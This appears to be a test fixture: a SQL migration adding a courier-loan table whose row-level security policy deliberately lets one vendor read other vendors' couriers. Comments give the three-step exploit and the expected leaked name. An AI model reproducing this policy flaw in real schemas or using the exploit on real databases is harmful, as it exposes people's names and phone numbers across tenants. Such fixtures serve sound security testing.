-- A vendor that borrows couriers writes the loan itself, by the courier's id alone, and so reads any courier.
-- about: CourierLoan, Courier, Courier_tenant
-- as: hf_chowline_app
-- exploit: SET app.vendor_id = 'ven_1';
-- exploit: INSERT INTO "CourierLoan" VALUES ('ven_1', 'cou_2');
-- exploit: SELECT "fullName", "phone" FROM "Courier";
-- shows: Road-secret Rider
CREATE TABLE "CourierLoan" (
  "vendorId" TEXT NOT NULL,
  "courierId" TEXT NOT NULL,
  CONSTRAINT "CourierLoan_pkey" PRIMARY KEY ("vendorId", "courierId"),
  CONSTRAINT "CourierLoan_vendorId_fkey" FOREIGN KEY ("vendorId") REFERENCES "Vendor" ("id")
);
ALTER TABLE "CourierLoan" ENABLE ROW LEVEL SECURITY;
ALTER TABLE "CourierLoan" FORCE ROW LEVEL SECURITY;
CREATE POLICY "CourierLoan_tenant" ON "CourierLoan"
  USING ("vendorId" = "currentVendor"()) WITH CHECK ("vendorId" = "currentVendor"());
GRANT SELECT, INSERT, DELETE ON "CourierLoan" TO hf_chowline_app;
ALTER POLICY "Courier_tenant" ON "Courier"
  USING ("vendorId" = "currentVendor"() OR "id" IN (SELECT l."courierId" FROM "CourierLoan" l));
